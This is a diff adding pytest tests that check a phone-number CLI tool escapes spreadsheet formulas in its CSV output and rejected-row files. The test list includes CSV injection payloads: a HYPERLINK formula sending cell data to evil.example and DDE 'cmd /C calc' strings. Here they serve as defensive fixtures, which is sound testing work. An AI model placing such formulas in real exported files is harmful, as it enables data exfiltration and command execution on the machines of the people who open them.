@@ -4,11 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from sinch_qualified_numbers.cli._inputs import read_numbers
+from sinch_qualified_numbers.cli._inputs import read_number_file, read_numbers, rejected_path_for
+from sinch_qualified_numbers.cli._output import csv_cell, emit
 
 DELIMITERS = [",", ";", "\t", "|"]
 
@@ -69,3 +72,43 @@ def test_no_line_with_a_digit_is_dropped_without_a_word(
     assert set(with_digits) - set(rejected_lines) <= set(data)
     accounted = len(parsed.valid) + len(parsed.rejected)
     assert len(with_digits) <= accounted <= len(data)
+
+
+#: Cells a spreadsheet would run as formulas (OWASP's CSV injection list), each as a row.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_rejected_rows_never_reach_a_spreadsheet_as_formulas(tmp_path: Path) -> None:
+    file = tmp_path / "numbers.csv"
+    lines = ["phoneNumber,name", "+12025550134,Ann", "+12025550134,dup", "+1 202 555 01,short"]
+    lines += [f'"{formula.replace(chr(34), chr(34) * 2)}",x' for formula in FORMULAS]
+    file.write_bytes(("\n".join(lines) + "\n").encode())
+    parsed = read_number_file(file, rejected_path=rejected_path_for(file))
+    rows = list(csv.reader(io.StringIO(rejected_path_for(file).read_text(), newline="")))
+    values = [row[1] for row in rows[1:]]
+    # A number stays as it is (a spreadsheet reads it as a number: nothing runs)...
+    assert values[:2] == ["+12025550134", "+1 202 555 01"]
+    # ... and every formula is neutralised by a leading apostrophe, otherwise unchanged.
+    assert values[2:] == [f"'{formula.lstrip()}" for formula in FORMULAS if formula.strip()]
+    assert parsed.rejected_count == 2 + len(FORMULAS)
+
+
+def test_csv_output_neutralises_formulas_but_not_numbers(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    rows = [{"phoneNumber": "+12025550134", "state": "-1", "note": formula} for formula in FORMULAS]
+    emit(rows, "csv", ["phoneNumber", "state", "note"])
+    read = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert [row["phoneNumber"] for row in read] == ["+12025550134"] * len(FORMULAS)
+    assert [row["state"] for row in read] == ["-1"] * len(FORMULAS)
+    assert [row["note"] for row in read] == [f"'{formula}" for formula in FORMULAS]
+    assert csv_cell("+1 (202) 555-0134") == "+1 (202) 555-0134"
+    assert csv_cell("-0.5") == "-0.5" and csv_cell(12) == 12
+    assert csv_cell("=1") == "'=1" and csv_cell("+1a") == "'+1a"
